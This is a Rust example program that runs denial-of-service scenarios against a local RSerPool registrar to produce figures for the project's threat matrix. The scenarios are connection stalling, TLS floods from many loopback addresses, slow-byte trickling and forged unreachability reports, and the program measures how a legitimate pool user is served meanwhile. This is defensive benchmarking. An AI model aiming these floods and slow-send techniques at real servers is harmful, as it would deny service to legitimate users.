//! Attacks from outside against a running registrar, and what a
//! legitimate pool user gets meanwhile: the figures behind the threat
//! matrix of docs/security.md (run it against this registrar and against
//! an older one to compare). Not a test: it prints figures.
//!
//! ```text
//! cargo run --release -p rserpool-registrar --example attack -- \
//!     SCENARIO --registrar 127.0.0.1:3864 --keys DIR [--seconds 20] [--count N]
//! ```
//!
//! `DIR` holds PSK files `NAME.key` for pe-a, pu-1, pu-2, pu-3, pu-4 and
//! flooder, all known to the registrar. Scenarios:
//!
//! * `reports`: pe-a registers a PE and answers every keep-alive; pu-1..3
//!   report it unreachable once a second each; pu-4 resolves every 100 ms.
//!   Prints how often the PE was in the answer.
//! * `stall`: for SECONDS, COUNT TCP connections from 127.0.0.1 that never
//!   start TLS, each opened again when the registrar closes it.
//! * `identity`: flooder opens COUNT TLS connections (from 127.0.1.1 up,
//!   200 per address) and holds them for SECONDS.
//! * `pu`: pu-4 connects from 127.0.0.2, resolves and disconnects every
//!   100 ms for SECONDS (run it beside `stall` or `identity`, in its own
//!   process, so that the attacker's CPU is not the pool user's).
//! * `trickle`: pe-a sends a header claiming 4,096 bytes, then a byte
//!   every 3 s; prints how long the registrar keeps the connection.

use std::net::{IpAddr, SocketAddr};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::BytesMut;
use rserpool_security::{Psk, TlsClient, TlsClientConfig};
use rserpool_wire::framing::ChannelCodec;
use rserpool_wire::{
    AsapMessage, PeId, Policy, PoolElement, PoolHandle, ServerId, Transport, TransportUse,
    WireMessage,
};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

type Error = Box<dyn std::error::Error + Send + Sync>;

struct Args {
    scenario: String,
    registrar: SocketAddr,
    keys: PathBuf,
    seconds: u64,
    count: usize,
}

fn args() -> Result<Args, Error> {
    let mut it = std::env::args().skip(1);
    let scenario = it
        .next()
        .ok_or("usage: attack SCENARIO --registrar ADDR --keys DIR")?;
    let mut a = Args {
        scenario,
        registrar: "127.0.0.1:3864".parse()?,
        keys: PathBuf::from("."),
        seconds: 20,
        count: 11_000,
    };
    while let Some(flag) = it.next() {
        let value = it.next().ok_or(format!("{flag} needs a value"))?;
        match flag.as_str() {
            "--registrar" => a.registrar = value.parse()?,
            "--keys" => a.keys = value.into(),
            "--seconds" => a.seconds = value.parse()?,
            "--count" => a.count = value.parse()?,
            other => return Err(format!("unknown flag {other}").into()),
        }
    }
    Ok(a)
}

fn key(a: &Args, name: &str) -> Result<Psk, Error> {
    let mut keys = Psk::read_file(&a.keys.join(format!("{name}.key")))?;
    Ok(keys.remove(0))
}

async fn tcp_from(to: SocketAddr, from: IpAddr) -> std::io::Result<TcpStream> {
    let s = TcpSocket::new_v4()?;
    s.bind(SocketAddr::new(from, 0))?;
    s.connect(to).await
}

struct Conn<S> {
    s: S,
    buf: BytesMut,
    codec: ChannelCodec,
}

impl<S: AsyncRead + AsyncWrite + Unpin> Conn<S> {
    async fn send(&mut self, m: &AsapMessage) -> Result<(), Error> {
        self.s.write_all(&m.to_bytes()?).await?;
        Ok(self.s.flush().await?)
    }

    async fn recv(&mut self) -> Result<Option<AsapMessage>, Error> {
        loop {
            if let Some(f) = self.codec.decode(&mut self.buf)? {
                return Ok(Some(AsapMessage::decode(&f)?.message));
            }
            if self.s.read_buf(&mut self.buf).await? == 0 {
                return Ok(None);
            }
        }
    }
}

async fn tls(
    a: &Args,
    name: &str,
    from: IpAddr,
) -> Result<Conn<tokio_openssl::SslStream<TcpStream>>, Error> {
    let client = TlsClient::new(&TlsClientConfig {
        psk: Some(key(a, name)?),
        ..TlsClientConfig::default()
    })?;
    let tcp = tcp_from(a.registrar, from).await?;
    let (s, _) = client.connect(tcp, &a.registrar.ip().to_string()).await?;
    Ok(Conn {
        s,
        buf: BytesMut::new(),
        codec: ChannelCodec::new(ChannelCodec::ABSOLUTE_MAX),
    })
}

fn handle() -> PoolHandle {
    PoolHandle::from_static("attack")
}

const PE_ID: u32 = 0x00a7_7ac4;

fn resolution() -> AsapMessage {
    AsapMessage::HandleResolution {
        subscribe: false,
        pool_handle: handle(),
        items: Some(16),
    }
}

/// One fresh pool user: connect, resolve, close. `Some(true)` if the PE
/// was in the answer, `Some(false)` if the answer lacked it, `None` if
/// the registrar could not be reached within 2 s.
async fn one_resolution(a: &Args, from: IpAddr) -> Option<bool> {
    let attempt = async {
        let mut c = tls(a, "pu-4", from).await?;
        c.send(&resolution()).await?;
        match c.recv().await? {
            Some(AsapMessage::HandleResolutionResponse { pool_elements, .. }) => Ok::<_, Error>(
                pool_elements
                    .iter()
                    .any(|p| p.identifier == PeId::new(PE_ID)),
            ),
            _ => Ok(false),
        }
    };
    tokio::time::timeout(Duration::from_secs(2), attempt)
        .await
        .ok()
        .and_then(Result::ok)
}

/// Pool-user attempts every 100 ms for `seconds`; prints the tally.
async fn serve_pu(a: &Args, from: IpAddr, want_pe: bool) {
    let end = Instant::now() + Duration::from_secs(a.seconds);
    let (mut ok, mut missing, mut refused) = (0u32, 0u32, 0u32);
    let mut tick = tokio::time::interval(Duration::from_millis(100));
    while Instant::now() < end {
        tick.tick().await;
        match one_resolution(a, from).await {
            Some(true) => ok += 1,
            Some(false) if !want_pe => ok += 1,
            Some(false) => missing += 1,
            None => refused += 1,
        }
    }
    let n = ok + missing + refused;
    println!(
        "pool user: {ok}/{n} served ({:.0} %), {missing} answers without the PE, {refused} not served within 2 s",
        100.0 * f64::from(ok) / f64::from(n.max(1))
    );
}

/// Register the PE as pe-a, answer keep-alives and re-register every 2 s
/// (a generous PE) until the end.
async fn answering_pe(a: &Args) -> Result<(), Error> {
    let mut c = tls(a, "pe-a", a.registrar.ip()).await?;
    let registration = AsapMessage::Registration {
        pool_handle: handle(),
        pool_element: PoolElement {
            identifier: PeId::new(PE_ID),
            home_registrar: ServerId::UNDETERMINED,
            registration_life: 3_600_000,
            user_transport: Transport::Tcp {
                port: 7,
                transport_use: TransportUse::DataOnly,
                address: a.registrar.ip(),
            },
            policy: Policy::RoundRobin,
            asap_transport: None,
        },
    };
    c.send(&registration).await?;
    tokio::spawn(async move {
        let mut again = tokio::time::interval(Duration::from_secs(2));
        loop {
            let m = tokio::select! {
                _ = again.tick() => {
                    if c.send(&registration).await.is_err() {
                        break;
                    }
                    continue;
                }
                m = c.recv() => m,
            };
            let Ok(Some(m)) = m else { break };
            if let AsapMessage::EndpointKeepAlive {
                pool_handle,
                identifier,
                ..
            } = m
            {
                let ack = AsapMessage::EndpointKeepAliveAck {
                    pool_handle,
                    identifier: identifier.unwrap_or(PeId::new(PE_ID)),
                };
                if c.send(&ack).await.is_err() {
                    break;
                }
            }
        }
        eprintln!("attack: the PE's connection ended");
    });
    Ok(())
}

async fn reports(a: &Args) -> Result<(), Error> {
    answering_pe(a).await?;
    let stop = Arc::new(AtomicBool::new(false));
    for name in ["pu-1", "pu-2", "pu-3"] {
        let mut c = tls(a, name, a.registrar.ip()).await?;
        let stop = stop.clone();
        tokio::spawn(async move {
            let mut tick = tokio::time::interval(Duration::from_secs(1));
            while !stop.load(Ordering::Relaxed) {
                tick.tick().await;
                let r = AsapMessage::EndpointUnreachable {
                    pool_handle: handle(),
                    identifier: PeId::new(PE_ID),
                };
                if c.send(&r).await.is_err() {
                    break;
                }
            }
        });
    }
    println!("three keys report the PE unreachable once a second each");
    serve_pu(a, a.registrar.ip(), true).await;
    stop.store(true, Ordering::Relaxed);
    Ok(())
}

async fn stall(a: &Args) -> Result<(), Error> {
    // Each slot is held again as soon as the registrar closes it, as an
    // attacker would.
    let open = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let to = a.registrar;
    for _ in 0..a.count {
        let open = open.clone();
        tokio::spawn(async move {
            loop {
                match tcp_from(to, IpAddr::from([127, 0, 0, 1])).await {
                    Ok(mut s) => {
                        open.fetch_add(1, Ordering::Relaxed);
                        let mut b = [0u8; 16];
                        let _ = s.read(&mut b).await;
                        open.fetch_sub(1, Ordering::Relaxed);
                    }
                    Err(_) => tokio::time::sleep(Duration::from_millis(100)).await,
                }
            }
        });
    }
    let end = Instant::now() + Duration::from_secs(a.seconds);
    while Instant::now() < end {
        tokio::time::sleep(Duration::from_secs(5)).await;
        println!(
            "stall: {} of {} connections open",
            open.load(Ordering::Relaxed),
            a.count
        );
    }
    Ok(())
}

async fn identity(a: &Args) -> Result<(), Error> {
    let mut held = Vec::new();
    let mut refused = 0;
    let started = Instant::now();
    for i in 0..a.count {
        let from = IpAddr::from([127, 0, 1, 1 + (i / 200) as u8]);
        match tls(a, "flooder", from).await {
            Ok(c) => held.push(c),
            Err(_) => refused += 1,
        }
    }
    println!(
        "flooder: {} TLS connections opened in {:.1} s ({refused} failed)",
        held.len(),
        started.elapsed().as_secs_f64()
    );
    tokio::time::sleep(Duration::from_secs(a.seconds)).await;
    drop(held);
    Ok(())
}

async fn trickle(a: &Args) -> Result<(), Error> {
    let mut c = tls(a, "pe-a", a.registrar.ip()).await?;
    c.s.write_all(&[0x01, 0x00, 0x10, 0x00]).await?;
    c.s.flush().await?;
    let started = Instant::now();
    let limit = Duration::from_secs(a.seconds);
    let mut tick = tokio::time::interval(Duration::from_secs(3));
    let mut sent = 0;
    let mut buf = [0u8; 64];
    let closed = loop {
        if started.elapsed() > limit {
            break false;
        }
        tokio::select! {
            _ = tick.tick() => {
                if c.s.write_all(&[0]).await.is_err() || c.s.flush().await.is_err() {
                    break true;
                }
                sent += 1;
            }
            r = c.s.read(&mut buf) => {
                if matches!(r, Ok(0) | Err(_)) {
                    break true;
                }
            }
        }
    };
    if closed {
        println!(
            "trickle: closed by the registrar after {:.1} s ({sent} bytes sent)",
            started.elapsed().as_secs_f64()
        );
    } else {
        println!(
            "trickle: still open after {} s ({sent} bytes sent)",
            a.seconds
        );
    }
    Ok(())
}

#[tokio::main]
async fn main() -> Result<(), Error> {
    let a = args()?;
    {
        use nix::sys::resource::{getrlimit, setrlimit, Resource};
        if let Ok((_, hard)) = getrlimit(Resource::RLIMIT_NOFILE) {
            let _ = setrlimit(Resource::RLIMIT_NOFILE, hard, hard);
        }
    }
    match a.scenario.as_str() {
        "reports" => reports(&a).await,
        "stall" => stall(&a).await,
        "identity" => identity(&a).await,
        "trickle" => trickle(&a).await,
        "pu" => {
            serve_pu(&a, IpAddr::from([127, 0, 0, 2]), false).await;
            Ok(())
        }
        other => Err(format!("unknown scenario {other}").into()),
    }
}
